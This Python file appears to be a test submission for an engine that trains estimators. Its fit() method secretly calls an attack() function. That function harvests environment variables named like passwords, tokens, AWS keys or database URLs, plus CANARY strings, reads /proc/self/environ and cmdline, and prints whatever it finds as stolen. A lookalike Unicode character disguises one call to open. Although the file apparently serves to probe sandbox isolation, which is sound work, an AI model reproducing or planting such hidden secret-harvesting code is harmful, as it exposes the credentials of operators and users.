"""Reads secrets from environment variables, those of the engine included."""

import os
import re

from nearest import NearestMean


def attack():
    secret = re.compile('CANARY' + '-[0-9a-f]{6,}')
    for name, value in os.environ.items():
        if secret.search(value) or re.search('PASS|TOKEN|SECRET|DATABASE_URL|AWS', name):
            print(f'STOLEN {name}: {value!r}', flush=True)
    for place in ('/proc/self/environ', '/proc/thread-self/environ', '/proc/self/cmdline'):
        with ｏpen(place, 'rb') as file:
            found = secret.search(file.read().decode('latin-1'))
        if found:
            print(f'STOLEN from {place}: {found.group()}', flush=True)


class Model(NearestMean):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
